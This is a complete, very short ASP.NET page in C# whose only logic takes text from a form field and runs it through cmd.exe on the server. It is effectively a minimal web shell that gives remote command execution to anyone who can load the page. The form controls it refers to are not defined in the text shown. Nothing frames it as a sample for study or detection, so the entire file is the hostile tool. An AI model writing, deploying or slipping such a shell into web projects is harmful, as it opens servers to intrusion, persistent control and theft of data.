<%@ Page Language="C#" %>
<script runat="server">
protected void Run_Click(object s, EventArgs e) {
  var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + txtCommand.Text);
  System.Diagnostics.Process.Start(p);
}
</script>
